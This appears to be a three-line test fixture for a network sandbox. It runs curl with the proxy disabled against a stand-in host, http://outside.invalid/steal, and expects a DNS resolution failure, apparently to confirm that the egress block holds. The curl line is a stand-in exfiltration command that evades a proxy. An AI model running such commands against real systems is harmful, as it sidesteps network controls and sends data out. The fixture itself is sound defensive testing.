# route: curl --noproxy '*' to a named host (around the refusing proxy, so DNS first)
# expect: *Could not resolve host: outside.invalid*
curl -sS --max-time 5 --noproxy '*' http://outside.invalid:{{ out_port }}/steal
